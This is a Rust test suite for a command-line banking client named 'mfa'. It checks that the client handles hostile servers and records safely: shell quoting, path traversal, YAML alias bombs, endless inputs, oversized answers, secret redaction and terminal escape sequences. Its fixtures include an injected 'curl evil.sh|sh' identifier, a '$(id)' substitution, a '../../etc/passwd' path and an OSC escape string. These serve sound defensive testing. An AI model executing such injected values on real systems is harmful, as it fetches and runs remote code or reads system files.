//! What a hostile daemon, or a hostile record, does to the machine of who asks for it: nothing.

use crate::support::run::run;
use crate::support::scripted::{answer, server};
use crate::support::terminal::Terminal;
use crate::support::world::{World, mfa};
use serde_json::{Value, json};
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::process::Command;

/// A customer's identifier may have any signs but a slash and control characters.
const EVIL: &str = "c;curl evil.sh|sh";

fn well(kind: &str, body: &str) -> String {
    answer("200 OK", &[&format!("content-type: {kind}")], body)
}

/// A daemon that answers each path with what a function says; a client may hang up before its end.
fn daemon(say: impl Fn(&str) -> String + Send + 'static) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut request = vec![0; 65536];
            let length = stream.read(&mut request).unwrap_or_default();
            let request = String::from_utf8_lossy(&request[..length]).into_owned();
            let path = request.split(' ').nth(1).unwrap_or_default();
            let _ = stream.write_all(say(path).as_bytes());
        }
    });
    url
}

#[test]
fn a_hint_quotes_identifiers_for_the_shell() {
    let world = World::start();
    let body = json!({ "identifier": EVIL, "givenName": "Ama", "surname": "Owusu",
        "dateOfBirth": { "year": 1990, "month": 2, "day": 28 } });
    world.post("/customers", body.to_string()).is(202);
    let same = ["customers", "create", "c-10", "-g", "Ama", "-s", "Owusu", "-d", "1990-02-28"];
    let ran = run(world.mfa(&same));
    assert!(ran.err.contains(&format!("compare them: mfa customers get '{EVIL}'\n")), "{}", ran.err);
    let deposit = ["teller", "deposit", "T1", "--account", "x", "--amount", "1", "--yes", "--customer", EVIL];
    let said = run(world.mfa(&deposit)).fails(3);
    assert!(said.contains(&format!("mfa accounts list --customer '{EVIL}'")), "{said}");
    let said = run(world.mfa(&["profile", "use", "a;b"])).fails(3);
    assert!(said.contains("mfa profile add 'a;b'"), "{said}");
    let file = world.dir.path().join("rows.csv");
    fs::write(&file, "identifier,a'$(id)'\nc-1,x\n").unwrap();
    let said = run(world.mfa(&["customers", "import", file.to_str().unwrap()])).fails(2);
    assert!(said.contains(r"--map 'a'\''$(id)'\''=FIELD'"), "{said}");
}

#[test]
fn a_completed_identifier_is_one_word_of_the_shell() {
    let world = World::start();
    world.post("/customers", json!({ "identifier": EVIL }).to_string()).is(202);
    let folder = tempfile::tempdir().unwrap();
    symlink(env!("CARGO_BIN_EXE_mfa"), folder.path().join("mfa")).unwrap();
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../completions/mfa.bash");
    let line = "COMP_WORDS=(mfa customers get c); COMP_CWORD=3; COMP_LINE='mfa customers get c'";
    let bash = || {
        let mut command = Command::new("bash");
        command.args(["--norc", "-c", &format!("source {script}; {line}; _mfa; echo \"${{COMPREPLY[0]}}\"")]);
        command.env("MFA_URL", world.url());
        command.env("PATH", format!("{}:/usr/bin:/bin", folder.path().display()));
        run(command).ok()
    };
    // A busy machine may offer nothing at first.
    let found = (0..20).map(|_| bash()).find(|found| found.len() > 1).unwrap_or_default();
    assert_eq!(found, "c\\;curl\\ evil.sh\\|sh\n");
    // PowerShell inserts what it is given as it is.
    let script = run(world.mfa(&["completions", "powershell"])).ok();
    let quotes = r#"$word = "'" + ($value -replace "['\u2018-\u201b]", '$0$0') + "'""#;
    assert!(script.contains(quotes) && script.contains("CompletionResult]::new($word,"), "{script}");
}

#[test]
fn the_file_of_a_day_report_has_the_name_that_was_asked_for() {
    let home = tempfile::tempdir().unwrap();
    let folder = home.path().join("below/reports");
    let report = json!({ "number": 1, "tellerCode": "desk-1", "day": "2031-05-06", "movements": [] });
    for (name, value) in [
        ("tellerCode", json!("../../evil")),
        ("tellerCode", json!("desk-2")),
        ("tellerCode", json!(null)),
        ("day", json!("../../evil")),
        ("number", json!("1;evil")),
    ] {
        let mut report = report.clone();
        report[name] = value;
        let (url, _) = server(vec![well("application/json", &report.to_string())]);
        let save = ["teller", "reports", "save", "desk-1", "1", "--office", "ho", "--url", &url];
        let more = ["--report-format", "json", "--report-dir", folder.to_str().unwrap()];
        let said = run(mfa(home.path(), &[&save[..], &more].concat())).fails(1);
        assert!(said.contains("answered with a report"), "{name}: {said}");
        assert_eq!(fs::read_dir(&folder).unwrap().count(), 0, "{name}");
        assert_eq!(fs::read_dir(folder.parent().unwrap()).unwrap().count(), 1, "{name}");
    }
    let (url, _) = server(vec![well("application/json", &report.to_string())]);
    let save = ["teller", "reports", "save", "desk-1", "1", "--office", "ho", "--url", &url];
    let more = ["--report-format", "json", "--report-dir", folder.to_str().unwrap()];
    run(mfa(home.path(), &[&save[..], &more].concat())).ok();
    assert!(folder.join("desk-1-0001-2031-05-06.json").exists());
}

#[test]
fn an_export_takes_no_identifier_that_would_be_a_path_or_markup() {
    let home = tempfile::tempdir().unwrap();
    for id in ["x}\nkind: role", "../../etc/passwd", "a b"] {
        let user = json!({ "identifier": id, "role": "clerk" }).to_string();
        let url = daemon(move |path| {
            let records = if path.starts_with("/users") { format!("{user}\n") } else { String::new() };
            well("application/x-ndjson", &records)
        });
        let said = run(mfa(home.path(), &["export", "out", "--url", &url, "--retries", "0"])).fails(1);
        assert!(said.contains("no daemon takes such an identifier"), "{id}: {said}");
        assert!(!home.path().join("out").exists(), "{id}");
    }
}

#[test]
fn a_file_whose_aliases_would_take_all_memory_is_refused() {
    let world = World::start();
    let aliases = vec!["*a"; 10_000].join(", ");
    let text = format!("identifier: ho\nname: &a {}\nx: [{aliases}]\n", "x".repeat(1 << 20));
    let file = world.dir.path().join("bomb.yaml");
    fs::write(&file, &text).unwrap();
    let file = file.to_str().unwrap();
    let ran = run(world.mfa(&["offices", "create", "--from", file]));
    assert!(ran.exit != 0 && ran.err.contains("add more than 64 MiB of text"), "{ran:?}");
    fs::write(file, format!("kind: office\n{text}")).unwrap();
    let ran = run(world.mfa(&["apply", "-f", file, "--yes"]));
    assert!(ran.exit != 0 && ran.err.contains("add more than 64 MiB of text"), "{ran:?}");
    world.get("/offices/ho").is(404);
}

#[test]
fn a_file_without_an_end_is_not_read_beyond_its_limit() {
    let world = World::start();
    let config = world.dir.path().join("none.toml");
    for (line, what) in [
        ("login olga --password-file /dev/zero", "cannot read /dev/zero: it has more than 64 KiB"),
        ("login --application a --key /dev/zero", "cannot read /dev/zero: it has more than 64 KiB"),
        ("backup verify x --passphrase-file /dev/zero", "cannot read /dev/zero: it has more than 64 KiB"),
        ("batch /dev/zero", "cannot read /dev/zero: it has more than 32 MiB"),
        ("api POST /offices --input /dev/zero", "cannot read /dev/zero: it has more than 32 MiB"),
        ("offices create --from /dev/zero", "cannot read /dev/zero: it has more than 32 MiB"),
        ("apply -f /dev/zero", "cannot read /dev/zero: it has more than 256 MiB"),
        ("offices import /dev/zero", "cannot read /dev/zero: a line has more than 32 MiB"),
        ("offices import /dev/zero --format jsonl", "row 1 cannot be read: a line has more than 32 MiB"),
        ("offices import /dev/zero --format json", "cannot read /dev/zero: it has more than 256 MiB"),
        ("offices import x.csv --map @/dev/zero", "cannot read /dev/zero: it has more than 32 MiB"),
        ("offices list --url https://127.0.0.1:1 --ca-file /dev/zero", "it has more than 32 MiB"),
    ] {
        let mut command = world.mfa(&line.split(' ').collect::<Vec<_>>());
        command.env("MFA_CONFIG", &config);
        let said = run(command).fails(2);
        assert!(said.contains(what), "{line}: {said}");
    }
    // Standard input is no other, and a row of a table may begin well.
    let endless = |program: &str, line: &str| {
        let program = format!("{program} | {} {line}", env!("CARGO_BIN_EXE_mfa"));
        let mut shell = Command::new("sh");
        shell.args(["-c", &program]).env("MFA_URL", world.url()).current_dir(world.dir.path());
        run(shell).fails(2)
    };
    let said = endless("cat /dev/zero", "login olga --password-stdin");
    assert!(said.contains("it has more than 64 KiB"), "{said}");
    let said = endless("(printf 'identifier,name\\nho,\"'; cat /dev/zero)", "offices import -");
    assert!(said.contains("row 1 cannot be read: a row has more than 32 MiB"), "{said}");
}

#[test]
fn an_answer_that_is_too_long_is_not_read() {
    let home = tempfile::tempdir().unwrap();
    let head = |status: &str, more: &str| {
        format!("HTTP/1.1 {status}\r\nx-request-id: 1\r\nconnection: close\r\n{more}\r\n")
    };
    let image = "content-type: image/png\r\netag: \"0\"\r\n";
    let records = head("200 OK", "content-type: application/x-ndjson\r\n");
    for (line, answer, why) in [
        (&["customers", "get", "c-1"][..], head("200 OK", "content-length: 300000000\r\n"), "256 MiB"),
        (
            &["customers", "get", "c-1"],
            head("404 Not Found", "") + &" ".repeat(2 << 20),
            "404 with more than 1 MiB",
        ),
        (&["api", "GET", "/x"], head("404 Not Found", "") + &" ".repeat(2 << 20), "404 with more than 1 MiB"),
        (&["audit", "export", "-"], records + &" ".repeat(17 << 20), "a record of more than 16 MiB"),
        (
            &["customers", "portrait", "get", "c-1", "--out", "-"],
            head("200 OK", &format!("{image}content-length: 70000000\r\n")),
            "an image of more than 64 MiB",
        ),
    ] {
        let url = daemon(move |_| answer.clone());
        let line = [line, &["--url", &url, "--retries", "0", "-o", "json"]].concat();
        let error = run(mfa(home.path(), &line)).fails_in_json(1);
        assert_eq!(error["code"], "unexpected_answer", "{line:?}: {error}");
        assert!(error["message"].as_str().unwrap().contains(why), "{line:?}: {error}");
    }
}

#[test]
fn what_another_server_answers_is_not_taken_for_a_change_or_a_list() {
    let home = tempfile::tempdir().unwrap();
    let foreign = |body: &str| {
        let length = body.len();
        format!("HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: {length}\r\n\r\n{body}")
    };
    let create = ["customers", "create", "c-1", "--surname", "Addo", "--no-read"];
    let export = ["audit", "export", "-"];
    for line in [&create[..], &["customers", "list"], &["customers", "get", "c-1"], &["status"], &export] {
        for body in ["", "{\"a\":1}", "[]"] {
            let foreign = foreign(body);
            let url = daemon(move |_| foreign.clone());
            let line = [line, &["--url", &url, "--retries", "0", "-o", "json"]].concat();
            let error = run(mfa(home.path(), &line)).fails_in_json(1);
            assert_eq!(error["code"], "unexpected_answer", "{line:?} {body}: {error}");
        }
    }
    // Nor what is of another kind, behind the same header.
    for (line, body) in [(&["status"][..], "[]"), (&["customers", "get", "c-1"], "")] {
        let url = daemon(move |_| answer("200 OK", &[], body));
        let line = [line, &["--url", &url, "--retries", "0", "-o", "json"]].concat();
        let error = run(mfa(home.path(), &line)).fails_in_json(1);
        assert_eq!(error["code"], "unexpected_answer", "{line:?} {body}: {error}");
    }
}

#[test]
fn a_token_that_cannot_be_sent_and_the_password_of_an_address_are_not_repeated() {
    let home = tempfile::tempdir().unwrap();
    let mut command = mfa(home.path(), &["customers", "get", "c-1", "--url", "http://127.0.0.1:9"]);
    command.env("MFA_TOKEN", "mfaa_secret0\r");
    let ran = run(command);
    assert!(ran.exit == 2 && !ran.err.contains("secret0") && ran.err.contains("MFA_TOKEN"), "{ran:?}");
    let ran = run(mfa(home.path(), &["status", "--url", "http://ann:secret0@[x"]));
    assert!(ran.exit == 2 && !ran.err.contains("secret0"), "{ran:?}");
}

#[test]
fn an_exported_trail_does_not_steer_the_terminal_and_is_the_same_in_a_file() {
    let world = World::start();
    let record = "{\"a\":\"\u{1b}]0;owned\u{7}\u{202e}\"}\n";
    let url = daemon(move |_| well("application/x-ndjson", record));
    let line = ["audit", "export", "-", "--url", &url];
    assert_eq!(run(world.mfa(&line)).ok(), record);
    let screen = Terminal::start(&world, 100, &[]).run(&format!("mfa {}", line.join(" ")));
    let shown = r"\u001b]0;owned\u0007\u202e";
    assert!(screen.contains(shown), "{screen}");
    let read: Value = serde_json::from_str(&format!("\"{shown}\"")).unwrap();
    assert_eq!(read, "\u{1b}]0;owned\u{7}\u{202e}", "it says the same");
}
